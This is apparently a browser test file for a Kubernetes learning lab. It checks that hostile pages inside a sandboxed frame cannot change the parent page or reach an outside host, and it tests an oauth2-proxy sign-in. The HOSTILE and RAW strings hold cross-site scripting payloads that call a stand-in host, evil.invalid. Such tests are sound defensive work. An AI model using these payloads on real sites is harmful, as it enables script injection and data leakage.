"""The browser tab in a real browser: signing in through the proxy, and a page that tries everything."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, Route, expect

from tests.browser.harness import PHONE, allow_error, assert_fits
from tests.browser.lab_page import begin, idle, log, run

pytestmark = pytest.mark.browser
HOSTILE = """cat > evil.yaml <<'EOF'
apiVersion: v1
kind: ConfigMap
metadata:
  name: evil
data:
  index.html: |
    <title>evil</title><h1 id=top>evil</h1>
    <script>parent.document.title = "owned"; fetch("http://evil.invalid/")</script>
    <img src=x onerror="parent.document.title='owned'"><img src="http://evil.invalid/pixel.gif">
    <svg onload="parent.document.title='owned'"></svg><iframe src="/"></iframe>
    <meta http-equiv=refresh content="0;url=http://evil.invalid/"><base target=_top>
    <a href="javascript:parent.document.title='owned'" target=_top>script</a>
    <a href="/second.html" target=_top>onward</a>
    <form action="/second.html" target=_top><input name=q value=1><button formaction="http://evil.invalid/">send</button></form>
  second.html: <title>second</title><p>second page</p>
---
apiVersion: v1
kind: Pod
metadata:
  name: evil
spec:
  volumes: [{name: html, configMap: {name: evil}}]
  containers:
  - {name: web, image: nginx, volumeMounts: [{name: html, mountPath: /usr/share/nginx/html}]}
EOF"""


def go(page: Page, url: str) -> None:
    page.get_by_role("tab", name="브라우저").click()
    page.locator("#browser-url").fill(url)
    page.locator("#browser-url").press("Enter")


def test_a_hostile_page_is_shown_and_can_do_nothing(wide: Page) -> None:
    asked: list[str] = []
    wide.on("request", lambda request: asked.append(request.url))
    begin(wide)
    title = wide.title()
    run(wide, HOSTILE)
    run(wide, "kubectl apply -f evil.yaml && kubectl wait --for=condition=Ready pod/evil")
    expect(log(wide)).to_contain_text("condition met")
    run(wide, "kubectl port-forward pod/evil 8080:80")
    expect(log(wide)).to_contain_text("Forwarding from")
    go(wide, "localhost:8080")
    frame = wide.frame_locator("#browser-frame")
    expect(frame.get_by_role("heading", name="evil")).to_be_visible()
    expect(wide.locator("#browser-side")).to_contain_text("스크립트 1개는 실행하지 않았습니다")
    frame.get_by_text("script", exact=True).click()
    frame.get_by_role("link", name="onward").click()
    expect(frame.get_by_text("second page")).to_be_visible()
    expect(wide.locator("#browser-url")).to_have_value("http://localhost:8080/second.html")
    wide.get_by_role("button", name="뒤로").click()
    frame.get_by_role("button", name="send").click()
    expect(wide.locator("#browser-url")).to_have_value("http://localhost:8080/second.html?q=1")
    assert wide.title() == title
    assert "/lessons/one-ip/" in wide.url
    assert [url for url in asked if "evil.invalid" in url] == []
    expect(log(wide)).to_contain_text("Handling connection for 8080")
    wide.get_by_role("tab", name="터미널").click()
    wide.locator("#terminal-input").press("Control+c")
    idle(wide)
    go(wide, "localhost:8080")
    expect(wide.locator("#browser-message")).to_contain_text("ERR_CONNECTION_REFUSED")
    assert_fits(wide)


RAW = """<!doctype html><h1>raw</h1><script>parent.document.title = "owned"; top.location = "http://evil.invalid/"</script>
<img src="http://evil.invalid/pixel.gif" onerror="parent.document.title='owned'"><link rel=stylesheet href="http://evil.invalid/x.css">
<iframe src="/"></iframe><style>@import "http://evil.invalid/y.css"; h1 { background: url(http://evil.invalid/z.png) }</style>
<a href="http://evil.invalid/">out</a> <a href="/" target="_top">top</a> <a href="javascript:parent.document.title='owned'">script</a>
<form action="http://evil.invalid/" method="post"><button>send</button></form>"""


def test_the_frame_holds_even_where_nothing_was_rewritten(wide: Page) -> None:
    """Frame and policy alone, with the page as it came."""
    sent: list[str] = []
    stopped: set[str] = set()

    def unwritten(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=RAW)

    wide.route("**/browser/page/*/", unwritten)
    # Chromium tells of a request that it has stopped, too: it fails with "csp" and never leaves the browser
    wide.context.on("requestfailed", lambda request: stopped.add(str(request.failure)) if "evil" in request.url else None)
    wide.context.on("response", lambda response: sent.append(response.url))
    allow_error(
        wide, "Content Security Policy|sandboxed|Unsafe attempt|X-Frame-Options|frame-ancestors|evil.invalid|ERR_BLOCKED|Refused to|Blocked script"
    )
    begin(wide)
    title, address = wide.title(), wide.url
    frame = wide.frame_locator("#browser-frame")
    for name in ("script", "top", "send", "out"):
        go(wide, "10.244.0.2")
        expect(frame.get_by_role("heading", name="raw")).to_be_visible()
        frame.get_by_text(name, exact=True).click()
        wide.wait_for_timeout(300)  # for what must not happen there is nothing to wait for
    assert (wide.title(), wide.url) == (title, address)
    assert len(wide.context.pages) == 1
    assert [url for url in sent if "evil.invalid" in url] == []
    assert stopped <= {"csp", "net::ERR_BLOCKED_BY_CSP", "net::ERR_ABORTED"}


def test_a_person_signs_in_through_the_proxy_and_sees_each_hop(new_page: Callable[..., Page]) -> None:
    phone = new_page(PHONE, reduced_motion="reduce")  # a page that still glides moves away under a click
    begin(phone, "auth-proxy")
    phone.locator("#step-open-door [data-open]").click()
    frame = phone.frame_locator("#browser-frame")
    expect(frame.get_by_text("누구신지 모르지만")).to_be_visible()
    phone.locator("#step-sidecar [data-yaml]").dispatch_event("click")  # the prose still moves under a real one, from the cluster up to here
    expect(phone.locator("#yaml-state")).to_have_text("저장했습니다")
    for index in (0, 1):
        phone.locator("#step-sidecar [data-type]").nth(index).dispatch_event("click")
        phone.locator("#terminal-input").press("Enter")
    run(phone, "kubectl wait --for=condition=Ready pod/board")
    expect(log(phone)).to_contain_text("condition met")
    expect(phone.locator('#board [data-open$=":4180/"]')).to_be_attached()  # the proxy listens
    expect(phone.locator('#board [data-ref="services/default/board"]').first).to_contain_text("1/1")
    phone.locator("#step-login [data-open]").dispatch_event("click")
    frame.get_by_label("Email Address").fill("haneul@podlab.test")
    frame.get_by_label("Password").fill("mango-42")
    frame.get_by_role("button", name="Login").click()
    expect(frame.get_by_text("haneul@podlab.test")).to_be_visible()
    expect(phone.locator(".hops li")).to_have_count(3)
    expect(phone.locator(".hops")).to_contain_text("받은 쿠키: _oauth2_proxy_csrf, _oauth2_proxy")
    assert_fits(phone)
